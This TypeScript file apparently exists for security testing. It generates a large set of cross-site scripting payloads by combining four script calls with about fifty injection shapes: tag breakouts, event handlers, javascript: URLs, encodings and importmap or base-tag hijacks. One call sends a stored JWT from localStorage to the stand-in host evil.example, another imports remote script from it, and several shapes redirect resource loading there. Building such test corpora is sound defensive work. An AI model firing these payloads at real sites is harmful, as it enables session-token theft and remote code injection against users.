/** Texts that become script if a page or a policy lets them. `run` reports in the browser that one did. */

const CALLS = [
  "alert(1)",
  "window.ran=1",
  "fetch('//evil.example/'+localStorage.jwt)",
  "import('//evil.example/x.js')",
];

const SHAPES: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script type=module>${script}</script>`,
  (script) => `<script nonce="">${script}</script>`,
  (script) => `<script nonce="undefined">${script}</script>`,
  (script) => `<ScRiPt >${script}</sCrIpT >`,
  (script) => `<script/x>${script}</script\t>`,
  (script) => `<script>${script}//`,
  (script) => `</script><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea></style></noscript><script>${script}</script>`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `<!--<script>${script}</script>`,
  (script) => `]]><script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><script>${script}</script>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) =>
    `<base href="//evil.example/"><script src="/x.js"></script>`.replace("x", script[0] ?? ""),
  (script) => `<link rel=modulepreload href="//evil.example/?${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<template shadowrootmode=open><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><script>${script}</script>">`,
  (script) => `javascript:${script}`,
  (script) => `");${script};("`,
  (script) => `\\");${script};//`,
  (script) => `\u2028${script}\u2029<script>${script}</script>`,
  (script) => `\ud83d\ude00<script>${script}</script>`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;&#60;script&#62;${script}&#60;/script&#62;`,
  (script) => `$&<script>${script}</script>$'`,
  (script) => `\${${script}}{{${script}}}<%=${script}%>`,
  (script) => `<style>@import '//evil.example/';</style><script>${script}</script>`,
  (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  (script) => `<script type="application/ld+json"></script><script>${script}</script>`,
  (script) => `window.__reactRouterContext.streamController.enqueue("");${script}`,
  (script) => `["__proto__",{"toString":"<script>${script}</script>"}]`,
  (script) =>
    `<script type="importmap">{"imports":{"/assets/":"//evil.example/"}}</script>${script}`,
  (script) => `<a href="java\tscript:${script}">x</a>`,
  (script) => `<form action="javascript:${script}"><button autofocus>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `x'onmouseover='${script}`,
  (script) => `x"onpointerenter="${script}`,
];

export interface Payload {
  text: string;
  script: string;
}

export const PAYLOADS: readonly Payload[] = CALLS.flatMap((script) =>
  SHAPES.map((shape) => ({ text: shape(script), script })),
);
